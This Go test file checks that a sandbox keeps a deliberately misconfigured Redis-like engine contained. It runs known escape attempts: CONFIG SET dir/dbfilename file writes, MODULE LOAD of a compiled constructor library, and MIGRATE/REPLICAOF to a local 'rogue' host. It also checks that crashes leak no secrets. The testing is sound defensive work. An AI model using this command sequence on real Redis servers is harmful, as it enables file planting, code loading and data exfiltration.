package engine

import (
	"bytes"
	"fmt"
	"io"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/redoubt-cache/redoubt/internal/passwords"
	"github.com/redoubt-cache/redoubt/internal/sandbox"
)

// everyDoorOpen is an engine as an attacker would like it: no password, every
// command, debugging, modules and protected settings allowed. Only the
// supervisor's user is as always.
func everyDoorOpen(r *running) {
	r.configuration = func(s secrets, _ []passwords.Digest) string {
		r.mu.Lock()
		defer r.mu.Unlock()
		r.secret = s
		return strings.Join([]string{
			"port 0", "unixsocket " + socketName, "unixsocketperm 0", `save ""`, "daemonize no", `logfile ""`,
			"enable-protected-configs yes", "enable-debug-command yes", "enable-module-command yes",
			"ignore-warnings ARM64-COW-BUG", "maxmemory-policy allkeys-lru", "client-query-buffer-limit 1mb",
			"user default on nopass ~* &* +@all",
			supervisorUser(digest(s.password)), "",
		}, "\n")
	}
}

// unconfined takes the sandbox away: what is refused under it must succeed
// without it, else the test proves nothing.
func unconfined(r *running) {
	r.id = identity{-1, -1}
	r.command = func(s sandbox.Spec) (*exec.Cmd, error) {
		cmd := exec.Command(s.Path, s.Args[1:]...)
		cmd.Args[0] = s.Args[0]
		cmd.Env = []string{"LC_ALL=C"} // as the sandbox gives it: a locale that is missing is fatal
		cmd.Dir = s.Dir
		cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
		return cmd, nil
	}
}

// raw output of an engine, which only tests ever see.
func tapped(to *logBuffer) func(*running) {
	return func(r *running) {
		r.tap = func(out io.Reader) io.Reader { return io.TeeReader(out, to) }
	}
}

// A listener is a rogue host that waits to be called.
type listener struct {
	net.Listener
	mu    sync.Mutex
	heard int
	done  chan struct{}
}

func rogue(t *testing.T) *listener {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	r := &listener{Listener: l, done: make(chan struct{})}
	go func() {
		defer close(r.done)
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			r.mu.Lock()
			r.heard++
			r.mu.Unlock()
			conn.Close()
		}
	}()
	t.Cleanup(func() { l.Close(); <-r.done })
	return r
}

func (l *listener) calls() int {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.heard
}

func (l *listener) port() string {
	_, port, _ := net.SplitHostPort(l.Addr().String())
	return port
}

// constructor is a shared library that leaves a file behind when it is loaded,
// as any module's constructor may before the engine has looked at it.
func constructor(t *testing.T) (library, footprint string) {
	t.Helper()
	dir := t.TempDir()
	if err := os.Chmod(dir, 0o777); err != nil {
		t.Fatal(err)
	}
	source, library, footprint := filepath.Join(dir, "m.c"), filepath.Join(dir, "m.so"), filepath.Join(dir, "footprint")
	code := fmt.Sprintf("#include <fcntl.h>\n__attribute__((constructor)) static void run(void) { open(%q, O_CREAT|O_WRONLY, 0644); }\n", footprint)
	if err := os.WriteFile(source, []byte(code), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("gcc", "-shared", "-fPIC", "-o", library, source).CombinedOutput(); err != nil {
		t.Fatalf("gcc: %v\n%s", err, out)
	}
	return library, footprint
}

// What an opened engine is asked to do, and whether it could.
func breakOut(t *testing.T, r *running, rogue *listener, library string) (loaded bool) {
	t.Helper()
	c := r.raw()
	c.do("SET", "k", "v")
	c.do("CONFIG", "SET", "dir", r.dir)
	c.do("CONFIG", "SET", "dbfilename", "stolen.rdb")
	for _, attempt := range []string{
		"SAVE", "BGSAVE", "BGREWRITEAOF", "CONFIG SET appendonly yes", "CONFIG REWRITE", "ACL SAVE", "DEBUG RELOAD",
		"CONFIG SET oom-score-adj yes",
		"MODULE LOAD " + library,
		"MIGRATE 127.0.0.1 " + rogue.port() + " k 0 200",
		"REPLICAOF 127.0.0.1 " + rogue.port(),
	} {
		t.Logf("%-40.40s → %v", attempt, c.do(strings.Fields(attempt)...))
	}
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", r.PID()))
	if err != nil {
		t.Fatal(err)
	}
	loaded = bytes.Contains(maps, []byte(library))
	// The link to the master is tried once a second (replicationCron): two of
	// its rounds have passed when the engine has counted this much.
	start := uptime(t, c)
	waitFor(t, "three seconds of the engine's life", func() bool { return uptime(t, c) >= start+3 })
	c.do("REPLICAOF", "NO", "ONE")
	return loaded
}

func uptime(t *testing.T, c *client) int {
	t.Helper()
	info, _ := c.do("INFO", "server").(string)
	_, rest, _ := strings.Cut(info, "uptime_in_seconds:")
	var n int
	if _, err := fmt.Sscan(rest, &n); err != nil {
		t.Fatalf("INFO server: %v", err)
	}
	return n
}

func files(t *testing.T, dir string) []string {
	t.Helper()
	var found []string
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if path != dir && d != nil {
			found = append(found, strings.TrimPrefix(path, dir+"/"))
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return found
}

func TestAnOpenedEngineStillCannotGetOut(t *testing.T) {
	t.Parallel()
	rogue := rogue(t)
	library, footprint := constructor(t)
	r := start(t, Options{}, everyDoorOpen)
	if breakOut(t, r, rogue, library) {
		t.Error("the module's library is mapped into the engine")
	}
	if got := files(t, r.dir); len(got) != 1 || got[0] != socketName {
		t.Errorf("the run directory holds %v, want the socket alone", got)
	}
	if _, err := os.Stat(footprint); err == nil {
		t.Error("the module's constructor ran and wrote a file")
	}
	if n := rogue.calls(); n != 0 {
		t.Errorf("the rogue host was called %d times", n)
	}
	if pid := r.PID(); r.stop() != nil || alive(pid) {
		t.Error("the engine did not end in order")
	}
}

// The same attack on the same engine without the sandbox: all of it works.
func TestTheSameEngineGetsOutWithoutTheSandbox(t *testing.T) {
	t.Parallel()
	rogue := rogue(t)
	library, footprint := constructor(t)
	r := start(t, Options{}, everyDoorOpen, unconfined)
	breakOut(t, r, rogue, library)
	for _, want := range []string{"stolen.rdb", "appendonlydir"} {
		waitFor(t, want+" in the run directory", func() bool {
			_, err := os.Stat(filepath.Join(r.dir, want))
			return err == nil
		})
	}
	if _, err := os.Stat(footprint); err != nil {
		t.Error("the module's constructor did not run")
	}
	if rogue.calls() == 0 {
		t.Error("the rogue host was never called")
	}
	if err := r.stop(); err != nil {
		t.Error(err)
	}
	if !strings.Contains(r.log.String(), "its sandbox does not hold") {
		t.Error("files in the run directory were not reported")
	}
	if _, err := os.Stat(r.dir); err == nil {
		t.Error("the run directory and what was left in it are still there")
	}
}

// alive tells a process that runs from one that is gone or only waits to be reaped.
func alive(pid int) bool {
	stat, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return false
	}
	_, rest, _ := strings.Cut(string(stat), ") ")
	return !strings.HasPrefix(rest, "Z")
}

// marks are what must never be seen again, in each place an application can put data.
const mark = "MARK-5f2c9e7a"

// leaveMarks puts the mark wherever an application can.
func leaveMarks(t *testing.T, r *running) {
	t.Helper()
	c := r.raw()
	c.do("SET", mark+"-key", mark+"-value")
	c.do("HSET", mark+"-hash", mark+"-field", mark+"-value")
	c.do("CLIENT", "SETNAME", mark+"-name")
	c.do("EVAL", "redis.log(redis.LOG_WARNING, ARGV[1]); return redis.error_reply(ARGV[1])", "0", mark+"-script")
	c.do(mark+"-command", mark+"-argument")
	c.do("AUTH", "nobody", mark+"-password")

	// A value of 3 MB of which the engine has read half when it hits its limit
	// for a client's query (1 MB here): it logs the first bytes.
	half := r.raw()
	half.do("CLIENT", "SETNAME", mark+"-half")
	io.WriteString(half.conn, "*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$3000000\r\n"+strings.Repeat(mark, 120000)) // it hangs up meanwhile

	// Replies that nobody reads.
	unread := r.raw()
	unread.do("CLIENT", "SETNAME", mark+"-unread")
	c.do("CONFIG", "SET", "client-output-buffer-limit", "normal 100000 0 0")
	c.do("SET", "long", strings.Repeat(mark, 50000))
	for range 20 {
		io.WriteString(unread.conn, "GET long\r\n") // it hangs up meanwhile
	}
}

func TestACrashGivesNothingAway(t *testing.T) {
	for _, how := range []struct{ command, ends string }{
		{"DEBUG SEGFAULT", "SIGSEGV"}, {"DEBUG PANIC", "SIG"}, {"DEBUG ASSERT", "SIG"},
	} {
		t.Run(how.command, func(t *testing.T) {
			t.Parallel()
			var really logBuffer
			r := start(t, Options{}, everyDoorOpen, tapped(&really))
			leaveMarks(t, r)
			pid := r.PID()
			c := r.raw()
			c.do("CLIENT", "SETNAME", mark+"-crash")
			c.do(append(strings.Fields(how.command), mark+"-last")...)
			waitFor(t, "another engine", func() bool { p := r.PID(); return p != 0 && p != pid })
			waitFor(t, "an engine that answers and is empty", func() bool {
				conn, err := net.DialTimeout("unix", filepath.Join(r.dir, socketName), time.Second)
				if err != nil {
					return false
				}
				defer conn.Close()
				return r.raw().do("DBSIZE") == "0"
			})
			if alive(pid) {
				t.Error("the crashed engine still runs")
			}
			if !strings.Contains(really.String(), mark) {
				t.Error("the engine did not print the mark at all: this test proves nothing")
			}
			log := r.log.String()
			if strings.Contains(log, mark) {
				t.Error("our log holds the mark")
			}
			if !strings.Contains(log, "died of "+how.ends) {
				t.Errorf("our log does not name the signal (%s)", how.ends)
			}
			searchFor(t, r, mark)
		})
	}
}

// searchFor looks for a text in every file that belongs to the engine's user
// or lies where an engine's files could be, and fails at any file of the user
// outside its run directory.
func searchFor(t *testing.T, r *running, text string) {
	t.Helper()
	for _, root := range []string{r.dir, "/tmp", "/var/tmp", "/dev/shm", "/run", "/var/lib/redis", "/var/log", "/var/crash"} {
		filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
			if err != nil {
				return nil // not there, or gone meanwhile
			}
			info, err := d.Info()
			if err != nil {
				return nil
			}
			owner := int(info.Sys().(*syscall.Stat_t).Uid)
			if owner != r.id.uid {
				return nil
			}
			// Another engine's directory, of a user that was drawn twice.
			if other := strings.HasPrefix(path, "/run/redoubt-") && path != r.dir; other && d.IsDir() {
				return fs.SkipDir
			}
			if path != r.dir && path != filepath.Join(r.dir, socketName) {
				t.Errorf("%s belongs to the engine", path)
			}
			if info.Mode().IsRegular() {
				if b, err := os.ReadFile(path); err == nil && bytes.Contains(b, []byte(text)) {
					t.Errorf("%s holds the mark", path)
				}
			}
			return nil
		})
	}
}
